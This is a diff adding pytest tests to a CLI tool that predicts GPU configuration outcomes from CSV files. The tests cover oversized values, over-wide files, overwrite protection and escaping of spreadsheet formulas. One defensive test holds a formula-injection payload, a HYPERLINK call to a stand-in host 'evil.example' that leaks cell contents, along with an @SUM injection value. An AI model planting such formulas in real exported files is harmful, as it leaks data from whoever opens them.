@@ -110,6 +110,8 @@ def test_model_names_never_seen_are_predicted_from_their_size_and_flagged(
         ([config_row(), config_row(model_name="")], 3, "model_name", 2),
         ([config_row(), config_row(enable_roce="2")], 3, "enable_roce", 2),
         ([config_row(fast_kernels="maybe")], 2, "fast_kernels", 1),
+        ([config_row(number_gpus="1e308")], 2, "number_gpus", 1),  # was a traceback (issue 10)
+        ([config_row(), config_row(batch_size="1e12")], 3, "batch_size", 2),
     ],
 )
 def test_a_bad_cell_exits_nonzero_naming_row_and_column(
@@ -144,6 +146,19 @@ def test_a_malformed_file_exits_nonzero_with_the_reason(
     argv = predict_argv(calibrated_models_dir, configs, output)
     assert main(argv) == 2
     assert expected in capsys.readouterr().err
+    assert not output.exists()
+
+
+def test_a_file_with_too_many_columns_is_refused_from_its_header(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """100,000 columns took minutes (a quadratic duplicate check); now the header alone refuses it."""
+    configs = tmp_path / "wide.csv"
+    extra = "".join(f",x{i}" for i in range(100_000))
+    configs.write_text(CONFIG_HEADER + extra + "\n" + config_row() + ",0" * 100_000 + "\n")
+    output = tmp_path / "pred.csv"
+    assert main(predict_argv(tmp_path / "no-models", configs, output)) == 2
+    assert "line 1: has 100,014 columns; at most 256 are read" in capsys.readouterr().err
     assert not output.exists()
 
 
@@ -213,3 +228,59 @@ def test_calibrate_observed_reads_the_store_named_by_the_settings(
     assert "no rows to fit on" in capsys.readouterr().err
     assert Path(sqlite_url.removeprefix("sqlite:///")).exists()
     assert ModelRegistry(models).versions() == []
+
+
+def test_predict_never_replaces_a_file_unless_forced(
+    calibrated_models_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    configs = tmp_path / "configs.csv"
+    configs.write_text("\n".join([CONFIG_HEADER, config_row()]) + "\n")
+    output = tmp_path / "pred.csv"
+    output.write_text("yesterday's predictions\n")
+    argv = predict_argv(calibrated_models_dir, configs, output)
+    assert main(argv) == 2
+    assert "already exists; use --force to overwrite it" in capsys.readouterr().err
+    assert output.read_text() == "yesterday's predictions\n"
+    output.chmod(0o444)
+    assert main([*argv, "--force"]) == 2
+    assert "is read-only" in capsys.readouterr().err
+    output.chmod(0o644)
+    assert main([*argv, "--force"]) == 0
+    assert len(read(output)) == 1 and read(output)["outcome"][0] in {"valid", "rejected", "runtime"}
+    assert main(predict_argv(calibrated_models_dir, configs, tmp_path)) == 2  # a directory: no traceback
+    assert "is a directory" in capsys.readouterr().err
+
+
+def test_predict_writes_formula_cells_as_text(
+    calibrated_models_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A cell such as =HYPERLINK(...) came out as it went in, and ran when the CSV was opened."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    configs = tmp_path / "configs.csv"
+    with configs.open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(CONFIG_COLUMNS)
+        writer.writerow(config_row(identifier=formula.replace('"', "'"), experiment_id="@SUM(A1)").split(","))
+    output = tmp_path / "pred.csv"
+    assert main(predict_argv(calibrated_models_dir, configs, output)) == 0
+    (row,) = list(csv.DictReader(output.open(newline="")))
+    assert row["identifier"] == "'" + formula.replace('"', "'")
+    assert row["experiment_id"] == "'@SUM(A1)"
+    assert row["number_gpus"] == "4" and float(row["p_valid"]) >= 0  # numbers stay numbers
+
+
+def test_report_out_never_replaces_files_unless_forced(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    a_file = tmp_path / "notes.txt"
+    a_file.write_text("mine")
+    assert (
+        main(["report", "--bench", "bundled", "--out", str(a_file)]) == 2
+    )  # was a traceback (FileExistsError)
+    assert "is a file, not a directory" in capsys.readouterr().err
+    earlier = tmp_path / "earlier"
+    earlier.mkdir()
+    (earlier / "report.md").write_text("an earlier report")
+    assert main(["report", "--bench", "bundled", "--out", str(earlier)]) == 2
+    assert "already holds report.md; use --force" in capsys.readouterr().err
+    assert (earlier / "report.md").read_text() == "an earlier report"
